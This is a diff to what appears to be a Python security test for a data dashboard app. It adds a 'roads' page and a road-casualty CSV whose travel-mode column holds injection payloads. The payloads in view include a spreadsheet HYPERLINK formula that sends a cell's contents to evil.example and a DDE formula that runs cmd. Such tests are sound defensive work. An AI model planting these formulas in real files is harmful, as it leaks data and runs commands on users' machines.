@@ -37,7 +37,20 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
 CMD = "=cmd|' /C calc'!A0"
 PAYLOADS = [SCRIPT, IMG, HYPERLINK, CMD]
 #: URL path of every page of app.py (the page file's stem; the map is the default page)
-PAGES = ["", "meeting", "trends", "when", "tasking", "gaps", "walkabout", "review", "evidence", "comparators", "data"]
+PAGES = [
+    "",
+    "meeting",
+    "trends",
+    "when",
+    "roads",
+    "tasking",
+    "gaps",
+    "walkabout",
+    "review",
+    "evidence",
+    "comparators",
+    "data",
+]
 RENDER_TIMEOUT_MS = 120_000
 #: In every frame: elements with an event handler, script elements whose code calls alert, injected images.
 INJECTED_JS = """() => ({
@@ -109,6 +122,18 @@ def _hostile_copy(demo: DemoPaths, root: Path) -> Path:
             if i % 2 == 0:
                 feature["properties"][column] = f"{_payload(i // 2)} {feature['properties'][column]}"
         (root / target).write_text(json.dumps(collection), encoding="utf-8")
+    # road casualties whose modes of travel are hostile text (the Road casualties page's columns)
+    pd.DataFrame(
+        {
+            "AREFNO": [f"R{i}" for i in range(len(PAYLOADS))],
+            "date": "2024-05-02",
+            "output_time": "17:40:00",
+            "casualty_severity": "Slight",
+            "mode": PAYLOADS,
+            "lon": -2.2985,
+            "lat": 53.5933,
+        }
+    ).to_csv(root / "stats19.csv", index=False)
     store_dir = root / "store"
     ingest.ingest_paths([root / "police-uk"], store_dir=store_dir)
     ingest.ingest_paths([council_csv], store_dir=store_dir, mapping=mapping)
@@ -124,6 +149,7 @@ def _hostile_copy(demo: DemoPaths, root: Path) -> Path:
             "areas": None,
             "comparators": [],
             "layers_dir": "../layers",
+            "stats19": "../stats19.csv",
             "truth": "../truth.json",
         },
     )
